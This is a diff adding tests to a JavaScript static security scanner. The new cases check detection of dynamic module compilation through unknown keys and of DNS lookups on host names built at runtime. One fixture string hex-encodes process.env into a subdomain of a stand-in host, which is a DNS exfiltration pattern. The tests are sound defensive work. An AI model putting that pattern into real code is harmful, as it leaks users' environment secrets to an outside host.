@@ -48,6 +48,11 @@ describe('SEC rules: messages and ranges', () => {
     assert.deepEqual(hits(text, 'SEC-RCACHE-001').map(([range]) => range), ['m._compile', 'module._compile', 'new M()._compile', 'M.prototype._compile', 'require.main._compile']);
     none('class T { _compile(x) { return x } }\nnew T()._compile("a"); parser._compile(x); m._compile(src)', 'SEC-RCACHE-001');
   });
+  it('SEC-RCACHE-001 on a call with an unknown key on a module instance', () => {
+    const text = 'var f = new module.constructor;\nf.paths = module.paths;\nf[e(k)](src, "");\nnew (require("module"))()[name](src);';
+    assert.deepEqual(hits(text, 'SEC-RCACHE-001').map(([range]) => range), ['f[e(k)]', 'new (require("module"))()[name]']);
+    none('const o = {}; o[k](src); module.exports[k](x); const T = class {}; new T()[k](src)', 'SEC-RCACHE-001');
+  });
   it('SEC-SPAWN-001 (pi.exec is not this rule)', () => {
     assert.deepEqual(hits('import { execFileSync as run } from "child_process"; run("git")', 'SEC-SPAWN-001'), [['run', 'Direct process execution via child_process.execFileSync']]);
     none('export default function (pi) { pi.exec("git", ["status"]) }', 'SEC-SPAWN-001');
@@ -93,6 +98,15 @@ describe('SEC rules: messages and ranges', () => {
     assert.deepEqual(hits('fetch("https://a.example/" + id)', 'SEC-EXFIL-001'), [['fetch', 'Request URL built at runtime']]);
     assert.deepEqual(hits('import os from "os"; fetch(`https://a.example/${os.userInfo().username}`)', 'SEC-EXFIL-001'), [['fetch', 'Request URL built at runtime — includes environment data']]);
     none('fetch(url); fetch("https://a.example/" + "v1"); fetch(`https://a.example/${"v1"}`)', 'SEC-EXFIL-001');
+  });
+  it('SEC-EXFIL-001 on DNS queries for assembled host names', () => {
+    const text = 'const dns = require("dns");\ndns.lookup(Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60) + ".x.example", cb);\nrequire("dns/promises").resolveTxt(`${id}.t.example`);\ndns.promises.resolve4(id + ".example");';
+    assert.deepEqual(hits(text, 'SEC-EXFIL-001'), [
+      ['dns.lookup', 'DNS query for a host name built at runtime — includes environment data'],
+      ['require("dns/promises").resolveTxt', 'DNS query for a host name built at runtime'],
+      ['dns.promises.resolve4', 'DNS query for a host name built at runtime'],
+    ]);
+    none('const dns = require("dns"); dns.lookup(host, cb); dns.resolve("registry.npmjs.org"); dns.reverse(ip + "", cb); dns.setServers([a + b])', 'SEC-EXFIL-001');
   });
   it('SEC-FSSENS-001', () => {
     const head = 'const fs = require("fs");';
